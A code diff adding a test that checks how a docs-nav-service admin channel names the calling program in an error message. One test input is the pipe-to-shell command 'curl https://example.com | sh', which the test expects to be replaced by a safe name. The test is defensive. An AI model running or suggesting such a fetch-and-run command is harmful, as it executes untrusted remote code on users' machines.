@@ -380,6 +380,18 @@ describe('the admin channel', () => {
     await own.close();
   });
 
+  test.each([
+    ['npx docs-nav-service', 'npx docs-nav-service'],
+    ['docs-nav-service', 'docs-nav-service'],
+    ['curl https://example.com | sh', 'docs-nav-service'],
+    [undefined, 'docs-nav-service'],
+  ])('names the program in sentences as who asks calls it: %s', async (program, named) => {
+    const request = { operation: 'revokeKey', input: { id: '000000000000' }, ...(program !== undefined && { program }) };
+    expect(await callAdmin(adminAddress(folder), request)).toEqual({
+      error: expect.stringContaining(` List the IDs with “${named} keys list”`),
+    });
+  });
+
   test('removes its socket when it is closed, even while an idle client is connected', async () => {
     const own = tree();
     const opened = await serveAdmin(own, workplace(), () => {});
